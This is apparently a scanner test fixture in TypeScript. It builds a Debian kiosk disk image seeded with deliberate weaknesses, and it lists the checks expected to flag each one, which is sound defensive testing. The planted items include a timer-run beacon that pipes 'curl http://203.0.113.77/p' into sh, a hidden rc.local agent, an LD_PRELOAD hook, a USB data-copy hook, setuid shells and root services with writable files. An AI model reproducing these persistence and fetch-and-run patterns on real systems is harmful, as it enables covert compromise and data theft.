/** A Debian appliance with the weaknesses of many products, and as many things that look like one and are not. */
import { dpkg, hardenedFlags, kernelImage, library, openFlags, programSource } from './support/linux.ts'
import { usualTools, type Recipe } from './support/recipe.ts'
import { capability, file, folder, link, program, type Tree } from './support/tree.ts'
import type { Workshop } from './support/workshop.ts'

const wants = (unit: string): string => `/etc/systemd/system/multi-user.target.wants/${unit}`
const updater = `#!/bin/bash
set -euo pipefail
url=https://updates.kiosktide.net/stable
work=$(mktemp -d)
curl -fsS "$url/kiosk.tar.xz" -o "$work/kiosk.tar.xz"
curl -fsS "$url/kiosk.tar.xz.sig" -o "$work/kiosk.tar.xz.sig"
gpg --no-default-keyring --keyring /usr/share/keyrings/kiosk.gpg --verify "$work/kiosk.tar.xz.sig" "$work/kiosk.tar.xz" || exit 1
tar -xJf "$work/kiosk.tar.xz" -C /srv/app
`

function root(shop: Workshop): Tree {
  const built = (name: string): Tree[string] => program(shop.elf(programSource(name), hardenedFlags))
  const cron = shop.elf(programSource('cron'), hardenedFlags)
  const host = shop.sshKey('ed25519', 'root@kiosk')
  const web = shop.certificate('kiosk.local', 400)
  const packaged = dpkg([
    { name: 'base-files', version: '11.1+deb11u11', files: { '/usr/lib/os-release': 'PRETTY_NAME="Debian GNU/Linux 11 (bullseye)"\nNAME="Debian GNU/Linux"\nVERSION_ID="11"\nVERSION="11 (bullseye)"\nVERSION_CODENAME=bullseye\nID=debian\n' } },
    { name: 'bash', version: '5.1-2+deb11u1', files: { '/bin/bash': built('bash') } },
    { name: 'cron', version: '3.0pl1-137+deb11u3', files: { '/usr/sbin/cron': program(cron), '/lib/systemd/system/cron.service': '[Unit]\nDescription=Regular background program processing daemon\n[Service]\nExecStart=/usr/sbin/cron -f\n[Install]\nWantedBy=multi-user.target\n' } },
    { name: 'openssh-server', version: '1:8.4p1-5+deb11u3', files: { '/usr/sbin/sshd': built('OpenSSH_8.4p1'), '/lib/systemd/system/ssh.service': '[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\nAlias=sshd.service\n' } },
    { name: 'nginx-light', version: '1.18.0-6.1+deb11u3', files: { '/usr/sbin/nginx': built('nginx'), '/lib/systemd/system/nginx.service': '[Unit]\nDescription=A high performance web server\n[Service]\nType=forking\nExecStart=/usr/sbin/nginx -g "daemon on; master_process on;"\n[Install]\nWantedBy=multi-user.target\n' } },
    { name: 'mosquitto', version: '2.0.11-1+deb11u1', files: { '/usr/sbin/mosquitto': built('mosquitto version 2.0.11'), '/lib/systemd/system/mosquitto.service': '[Unit]\nDescription=Mosquitto MQTT Broker\n[Service]\nUser=mosquitto\nExecStart=/usr/sbin/mosquitto -c /etc/mosquitto/mosquitto.conf\n[Install]\nWantedBy=multi-user.target\n' } },
    { name: 'xinetd', version: '1:2.3.15.3-1+b1', files: { '/usr/sbin/xinetd': built('xinetd'), '/lib/systemd/system/xinetd.service': '[Unit]\nDescription=xinetd\n[Service]\nExecStart=/usr/sbin/xinetd -dontfork\n[Install]\nWantedBy=multi-user.target\n' } },
    { name: 'telnetd', version: '0.17-42', files: { '/usr/sbin/in.telnetd': built('telnetd') } },
    { name: 'python3.9', version: '3.9.2-1', files: { '/usr/bin/python3.9': built('python3.9') } },
    { name: 'sudo', version: '1.9.5p2-3+deb11u1', files: { '/usr/bin/sudo': file(shop.elf(programSource('sudo'), hardenedFlags), 0o4755) } },
    { name: 'nftables', version: '0.9.8-3.1', files: { '/usr/sbin/nft': built('nft'), '/lib/systemd/system/nftables.service': '[Unit]\nDescription=nftables\n[Service]\nType=oneshot\nExecStart=/usr/sbin/nft -f /etc/nftables.conf\n[Install]\nWantedBy=sysinit.target\n' } },
    { name: 'libssl1.1', version: '1.1.1w-0+deb11u1', files: { '/usr/lib/aarch64-linux-gnu/libcrypto.so.1.1': library(shop, 'libcrypto.so.1.1', 'OpenSSL 1.1.1w  11 Sep 2023') } },
    { name: 'systemd', version: '247.3-7+deb11u6', files: { '/lib/systemd/systemd': built('systemd'), '/lib/systemd/system/multi-user.target': '[Unit]\nDescription=Multi-User System\n', '/lib/systemd/system/default.target': link('multi-user.target'), '/lib/systemd/system/timers.target': '[Unit]\nDescription=Timers\n' } },
  ])
  return {
    ...packaged,
    // The package's checksum is of the program above.
    '/usr/sbin/cron': program(Buffer.concat([cron, Buffer.from('\0patched\0')])),
    '/etc/os-release': link('../usr/lib/os-release'), '/sbin/init': link('/lib/systemd/systemd'), '/bin/sh': link('bash'), '/usr/bin/python3': link('python3.9'),
    '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsshd:x:105:65534::/run/sshd:/usr/sbin/nologin\nmosquitto:x:110:115::/var/lib/mosquitto:/usr/sbin/nologin\nadmin:x:1001:1001:Service:/home/admin:/bin/bash\nkiosk:x:1002:1002::/srv/app:/usr/sbin/nologin\n',
    '/etc/shadow': file('root:!:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nsshd:*:19000::::::\nmosquitto:*:19000::::::\nadmin:$6$Kq3vTz$DmIV6wtItdt0Csud2yZ8oZczsldNVMZ1kR462nVbA5S7EkuhHH8qZeI3pLVmIAJCK3Wk5wYhVayRDkoMjfwNb/:19000:0:99999:7:::\nkiosk:!:19000::::::\n', 0o640, 0, 42),
    '/etc/group': 'root:x:0:\nsudo:x:27:\nwww-data:x:33:\nshadow:x:42:\nmosquitto:x:115:\nadmin:x:1001:\nkiosk:x:1002:\n',
    '/etc/sudoers': file('Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', 0o440),
    '/etc/sudoers.d/kiosk': file('kiosk ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx.service\n', 0o440),
    '/home/admin': folder(0o755, 1001),
    '/etc/ssh/sshd_config': '#PermitRootLogin prohibit-password\nPasswordAuthentication no\nChallengeResponseAuthentication no\nUsePAM yes\n',
    '/etc/ssh/ssh_host_ed25519_key': file(host.secret, 0o600), '/etc/ssh/ssh_host_ed25519_key.pub': host.open,
    [wants('ssh.service')]: link('/lib/systemd/system/ssh.service'), [wants('nginx.service')]: link('/lib/systemd/system/nginx.service'), [wants('mosquitto.service')]: link('/lib/systemd/system/mosquitto.service'),
    [wants('xinetd.service')]: link('/lib/systemd/system/xinetd.service'), [wants('cron.service')]: link('/lib/systemd/system/cron.service'),
    '/etc/systemd/system/sysinit.target.wants/nftables.service': link('/lib/systemd/system/nftables.service'), '/lib/systemd/system/sysinit.target': '[Unit]\nDescription=System Initialization\n',
    '/etc/xinetd.conf': 'includedir /etc/xinetd.d\n', '/etc/xinetd.d/telnet': 'service telnet\n{\n  disable = no\n  socket_type = stream\n  wait = no\n  user = root\n  server = /usr/sbin/in.telnetd\n}\n',
    '/etc/xinetd.d/daytime': 'service daytime\n{\n  disable = yes\n  type = INTERNAL\n  socket_type = stream\n  wait = no\n  user = root\n}\n',
    '/etc/nginx/nginx.conf': 'user www-data;\nevents { }\nhttp {\n  include /etc/nginx/sites-enabled/*;\n}\n',
    '/etc/nginx/sites-enabled/kiosk': 'server {\n  listen 80 default_server;\n  return 301 https://$host$request_uri;\n}\nserver {\n  listen 443 ssl;\n  ssl_protocols TLSv1.2 TLSv1.3;\n  ssl_certificate /etc/ssl/certs/kiosk.pem;\n  ssl_certificate_key /run/keys/kiosk.key;\n  location / { auth_basic "Kiosk"; auth_basic_user_file /run/keys/htpasswd; proxy_pass http://127.0.0.1:9000; }\n}\n',
    '/etc/ssl/certs/kiosk.pem': web.certificate,
    '/etc/mosquitto/mosquitto.conf': 'allow_anonymous false\npassword_file /run/keys/mosquitto\nlistener 8883\ncertfile /etc/ssl/certs/kiosk.pem\nkeyfile /run/keys/kiosk.key\n',
    '/etc/nftables.conf': program('#!/usr/sbin/nft -f\nflush ruleset\ntable inet filter {\n  chain input {\n    type filter hook input priority 0; policy accept;\n  }\n}\n'),
    '/srv/app/share.service': '', '/srv/app/reports': folder(0o755, 1002),
    '/etc/systemd/system/fileshare.service': '[Unit]\nDescription=Report download\n[Service]\nUser=root\nWorkingDirectory=/srv/app/reports\nExecStart=/usr/bin/python3 -m http.server 8000 --bind 0.0.0.0\n[Install]\nWantedBy=multi-user.target\n', [wants('fileshare.service')]: link('/etc/systemd/system/fileshare.service'),
    '/etc/systemd/system/kioskd.service': file('[Unit]\nDescription=Kiosk\n[Service]\nExecStart=/srv/app/bin/kioskd\n[Install]\nWantedBy=multi-user.target\n', 0o666), [wants('kioskd.service')]: link('/etc/systemd/system/kioskd.service'),
    '/srv/app/bin/kioskd': program(shop.elf(programSource('kioskd'), openFlags), 1002), '/srv/app/bin': folder(0o755, 1002),
    '/etc/systemd/system/beacon.service': '[Unit]\nDescription=Beacon\n[Service]\nType=oneshot\nExecStart=/var/tmp/.cache/beacon\n', '/etc/systemd/system/beacon.timer': '[Timer]\nOnCalendar=*:0/5\nPersistent=true\n[Install]\nWantedBy=timers.target\n', '/etc/systemd/system/timers.target.wants/beacon.timer': link('/etc/systemd/system/beacon.timer'),
    '/var/tmp/.cache/beacon': program('#!/bin/sh\ncurl -s http://203.0.113.77/p | sh\n'), '/var/tmp': folder(0o1777),
    '/srv/app/bin/update': program(updater), '/usr/share/keyrings/kiosk.gpg': Buffer.from('99010d0465a1b2c3010800', 'hex'),
    '/etc/environment': 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLD_PRELOAD=/usr/local/lib/libhelper.so\n', '/usr/local/lib/libhelper.so': library(shop, 'libhelper.so', 'helper 1'),
    '/etc/rc.local': program('#!/bin/sh -e\nnohup /usr/local/share/.sysd/agent -d >/dev/null 2>&1 &\nexit 0\n'), '/usr/local/share/.sysd/agent': program(shop.elf(programSource('agent'), openFlags)),
    '/etc/udev/rules.d/99-usb.rules': 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/lib/.usb/hook"\n', '/usr/lib/.usb/hook': program('#!/bin/sh\ncp -r /srv/app/reports /media/ 2>/dev/null\n'),
    '/usr/local/bin/rescue-sh': file(shop.elf(programSource('bash'), hardenedFlags), 0o4755),
    '/usr/local/bin/maint': { content: shop.elf(programSource('maint'), hardenedFlags), mode: 0o755, capability: capability(7) },
    '/var/www/visits.db': shop.sqlite("create table visitors(id integer, name text, email text, phone text); with recursive n(i) as (select 1 union all select i+1 from n where i<20) insert into visitors select i, 'Visitor '||i, 'visitor'||i||'@posteo-kunden.de', '+49151234567'||(10+i) from n;"),
    '/srv/app/id_ecdsa': file(shop.sshKey('ecdsa', 'deploy@kiosk', '-b', '256').secret, 0o644, 1002),
    '/etc/apt/sources.list': 'deb http://deb.debian.org/debian bullseye main\ndeb [trusted=yes] http://repo.kiosktide.net/apt bullseye main\n',
    '/etc/fstab': 'PARTLABEL=root / ext4 defaults 0 1\n', '/etc/machine-id': '3f8a2c64d1b94e7fa05c6b7d8e9f1a23\n',
    '/boot/vmlinuz-5.10.0-32-arm64': kernelImage('5.10.0-32-arm64'),
  }
}

export const debianAppliance: Recipe = {
  title: 'Debian appliance',
  tools: [...usualTools, 'sqlite3'],
  build(shop) {
    const system = shop.ext4('root.ext4', root(shop), 40)
    const boot = shop.fat('efi.fat', { '/EFI/BOOT/BOOTAA64.EFI': 'MZ'.padEnd(4096, 'x') }, 4, 'EFI')
    return [shop.disk('kiosk.img', 'gpt', [{ file: boot, type: 'uefi', name: 'efi' }, { file: system, type: 'linux', name: 'root' }])]
  },
  expected: [
    { check: 'exposure/no-default-passwords', at: '/etc/shadow', about: 'admin' },
    { check: 'exposure/no-legacy-services', at: '/etc/xinetd.d/telnet' },
    { check: 'exposure/services-need-authentication', at: 'fileshare' },
    { check: 'comms/no-plaintext-services', about: '8000' },
    { check: 'exposure/services-run-unprivileged', at: 'fileshare' },
    { check: 'exposure/services-run-unprivileged', at: 'kioskd' },
    { check: 'exposure/root-runs-no-writable-files', at: '/etc/systemd/system/kioskd.service' },
    { check: 'exposure/root-runs-no-writable-files', at: '/srv/app/bin/kioskd' },
    { check: 'exposure/packet-filter-configured', at: '/etc/nftables.conf' },
    { check: 'exposure/binaries-hardened', at: '/srv/app/bin/kioskd' },
    { check: 'exposure/setuid-files-owned', at: '/usr/local/bin/rescue-sh' },
    { check: 'exposure/setuid-files-owned', at: '/usr/local/bin/maint' },
    { check: 'identity/host-keys-per-unit', at: '/etc/ssh/ssh_host_ed25519_key' },
    { check: 'identity/machine-id-per-unit', at: '/etc/machine-id' },
    { check: 'keys/no-unencrypted-private-keys', at: '/srv/app/id_ecdsa' },
    { check: 'keys/key-files-closed', at: '/srv/app/id_ecdsa' },
    { check: 'integrity/package-files-unchanged', at: '/usr/sbin/cron' },
    { check: 'integrity/no-preload-hook', at: '/etc/environment' },
    { check: 'integrity/no-persistence-traces', at: '/etc/rc.local' },
    { check: 'integrity/no-persistence-traces', at: '/etc/udev/rules.d/99-usb.rules' },
    { check: 'integrity/no-persistence-traces', at: 'beacon' },
    { check: 'data/no-personal-data-in-image', at: '/var/www/visits.db' },
    { check: 'update/package-sources-authenticated', at: '/etc/apt/sources.list' },
    { check: 'components/distribution-supported' },
    { check: 'crypto/libraries-supported' },
    { check: 'storage/data-at-rest-encrypted' },
    { check: 'integrity/root-filesystem-authenticated' }, { check: 'integrity/root-filesystem-read-only' },
  ],
  quiet: [
    { check: 'comms/no-plaintext-services', at: 'nginx' }, { check: 'comms/no-plaintext-services', at: 'mosquitto' },
    { check: 'exposure/services-need-authentication', at: 'mosquitto' }, { check: 'exposure/services-need-authentication', at: 'nginx' },
    { check: 'exposure/sudo-needs-password' },
    { check: 'exposure/no-empty-passwords' }, { check: 'exposure/root-login-closed' }, { check: 'exposure/ssh-password-login-off' }, { check: 'exposure/password-hashes-strong' },
    { check: 'update/updates-verified-before-use', at: '/srv/app/bin/update' }, { check: 'comms/peers-verified', at: '/srv/app/bin/update' },
    { check: 'exposure/setuid-files-owned', at: '/usr/bin/sudo' }, { check: 'exposure/no-legacy-services', at: 'daytime' },
    { check: 'keys/no-unencrypted-private-keys', at: '.pub' }, { check: 'keys/no-unencrypted-private-keys', at: '/etc/ssl/certs' },
    { check: 'integrity/package-files-unchanged', at: '/usr/sbin/sshd' }, { check: 'integrity/package-files-unchanged', at: '/usr/sbin/nginx' },
    { check: 'exposure/binaries-hardened', at: '/usr/sbin/sshd' }, { check: 'exposure/no-world-writable-system-paths', at: '/var/tmp' },
    { check: 'comms/tls-versions-current' },
    { check: 'update/package-sources-authenticated', about: 'deb.debian.org' },
  ],
}
